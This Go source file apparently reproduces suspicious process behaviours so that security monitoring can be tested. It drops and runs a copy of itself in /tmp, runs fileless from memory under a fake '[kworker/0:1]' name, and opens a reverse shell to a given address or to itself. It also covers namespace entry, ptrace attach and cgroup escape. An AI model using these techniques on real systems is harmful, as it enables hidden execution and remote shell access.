// SPDX-License-Identifier: Apache-2.0

package main

import (
	"errors"
	"fmt"
	"io"
	"net"
	"os"
	"os/exec"
	"runtime"
	"strconv"
	"syscall"

	"golang.org/x/sys/unix"
)

// self is this program, wherever it was started from.
const self = "/proc/self/exe"

func processDeeds() []deed {
	return []deed{
		{"nop", "", 0, 16, "end at once", func([]string) error { return nil }},
		{"wait", "", 0, 0, "wait until standard input ends", wait},
		{"drift", "[FILE]", 0, 1, "copy this program to FILE and run it (/tmp/dropped)", drift},
		{"fileless", "", 0, 0, "run this program from memory", fileless},
		{"reverse-shell", "[ADDR]", 0, 1, "run sh on a connection to ADDR, or to itself", reverseShell},
		{"unshare", "", 0, 0, "make a user and a UTS namespace", unshare},
		{"setns", "FILE", 1, 1, "enter the namespace FILE", setns},
		{"ptrace", "", 0, 0, "attach to a process of one's own", trace},
		{"leave-cgroup", "DIR", 1, 1, "move to the cgroup DIR", leaveCgroup},
		{"born-outside", "DIR", 1, 1, "start a process in the cgroup DIR", bornOutside},
	}
}

func wait([]string) error {
	_, err := io.Copy(io.Discard, os.Stdin)
	return err
}

// start runs a program to its end with this one's outputs.
func start(path string, argv []string, attr *syscall.SysProcAttr) error {
	pid, err := syscall.ForkExec(path, argv, &syscall.ProcAttr{Env: os.Environ(), Files: []uintptr{0, 1, 2}, Sys: attr})
	if err != nil {
		return err
	}
	var status syscall.WaitStatus
	if _, err := syscall.Wait4(pid, &status, 0, nil); err != nil {
		return fmt.Errorf("wait for %s: %w", path, err)
	}
	if !status.Exited() || status.ExitStatus() != 0 {
		return fmt.Errorf("%s ended with status %#x", path, status)
	}
	return nil
}

// copySelf writes this program to f.
func copySelf(f *os.File) error {
	program, err := os.Open(self)
	if err != nil {
		return err
	}
	defer program.Close()
	_, err = io.Copy(f, program)
	return err
}

func drift(args []string) error {
	path := arg(args, 0, "/tmp/dropped")
	f, err := os.OpenFile(path, os.O_CREATE|os.O_WRONLY|os.O_TRUNC, 0o755)
	if err != nil {
		return err
	}
	err = copySelf(f)
	if err = errors.Join(err, f.Close()); err != nil {
		return err
	}
	if err := outcome("exec "+path, start(path, []string{path, "nop"}, nil)); err != nil {
		return err
	}
	fmt.Println("ran", path)
	return nil
}

func fileless([]string) error {
	fd, err := unix.MemfdCreate("fileless", 0)
	if err != nil {
		return outcome("memfd_create", err)
	}
	f := os.NewFile(uintptr(fd), "fileless")
	defer f.Close()
	if err := copySelf(f); err != nil {
		return err
	}
	path := "/proc/self/fd/" + strconv.Itoa(fd)
	if err := outcome("exec "+path, start(path, []string{"[kworker/0:1]", "nop"}, nil)); err != nil {
		return err
	}
	fmt.Println("ran", path)
	return nil
}

// reverseShell plays both ends when no address is given: it listens, and types the commands itself.
func reverseShell(args []string) error {
	addr := arg(args, 0, "")
	typed := make(chan error, 1)
	if addr == "" {
		listener, err := net.Listen("tcp", "127.0.0.1:0")
		if err != nil {
			return err
		}
		defer listener.Close()
		addr = listener.Addr().String()
		go func() { typed <- typeCommands(listener) }()
	} else {
		typed <- nil
	}
	conn, err := net.Dial("tcp", addr)
	if err != nil {
		return err
	}
	socket, err := conn.(*net.TCPConn).File()
	if err != nil {
		return errors.Join(err, conn.Close())
	}
	if err := conn.Close(); err != nil {
		return err
	}
	shell := exec.Command("/bin/sh", "-i")
	shell.Stdin, shell.Stdout, shell.Stderr = socket, socket, socket
	err = outcome("exec /bin/sh", shell.Run())
	return errors.Join(err, socket.Close(), <-typed)
}

// typeCommands is the other end of a reverse shell: it types two commands and reads until the shell is gone.
func typeCommands(listener net.Listener) error {
	conn, err := listener.Accept()
	if err != nil {
		return err
	}
	defer conn.Close()
	if _, err := conn.Write([]byte("echo $((6*7))\nexit\n")); err != nil {
		return err
	}
	_, err = io.Copy(io.Discard, conn)
	return err
}

// unshare lets a child do it, which has one thread, as a new user namespace demands.
func unshare([]string) error {
	attr := &syscall.SysProcAttr{Unshareflags: unix.CLONE_NEWUSER | unix.CLONE_NEWUTS}
	return outcome("unshare", start(self, []string{"deeds", "nop"}, attr))
}

func setns(args []string) error {
	runtime.LockOSThread()
	fd, err := unix.Open(args[0], unix.O_RDONLY|unix.O_CLOEXEC, 0)
	if err != nil {
		return fmt.Errorf("open %s: %w", args[0], err)
	}
	defer unix.Close(fd)
	return outcome("setns "+args[0], unix.Setns(fd, 0))
}

func trace([]string) error {
	runtime.LockOSThread()
	victim := exec.Command(self, "wait")
	stdin, err := victim.StdinPipe()
	if err != nil {
		return err
	}
	if err := victim.Start(); err != nil {
		return err
	}
	err = outcome("ptrace", attach(victim.Process.Pid))
	return errors.Join(err, stdin.Close(), victim.Wait())
}

// attach stops a process as a debugger does, and lets it go. A signal may come before the stop that the attach brings: it is
// handed on, or that stop would come when nobody traces any more.
func attach(pid int) error {
	runtime.LockOSThread()
	defer runtime.UnlockOSThread()
	if err := syscall.PtraceAttach(pid); err != nil {
		return err
	}
	for {
		var status syscall.WaitStatus
		if _, err := syscall.Wait4(pid, &status, unix.WALL, nil); err != nil {
			return fmt.Errorf("wait for the stop: %w", err)
		}
		if !status.Stopped() {
			return fmt.Errorf("the process ended with status %#x", status)
		}
		if status.StopSignal() == syscall.SIGSTOP {
			return syscall.PtraceDetach(pid)
		}
		signal := status.StopSignal()
		if signal == syscall.SIGTRAP {
			// The end of the victim's exec, told to its tracer alone.
			signal = 0
		}
		if err := syscall.PtraceCont(pid, int(signal)); err != nil {
			return fmt.Errorf("let the process go on: %w", err)
		}
	}
}

func leaveCgroup(args []string) error {
	path := args[0] + "/cgroup.procs"
	err := os.WriteFile(path, []byte(strconv.Itoa(os.Getpid())), 0)
	if err := outcome("write "+path, err); err != nil {
		return err
	}
	return start(self, []string{"deeds", "nop"}, nil)
}

func bornOutside(args []string) error {
	dir, err := os.Open(args[0])
	if err != nil {
		return err
	}
	defer dir.Close()
	attr := &syscall.SysProcAttr{UseCgroupFD: true, CgroupFD: int(dir.Fd())}
	return outcome("clone into "+args[0], start(self, []string{"deeds", "nop"}, attr))
}
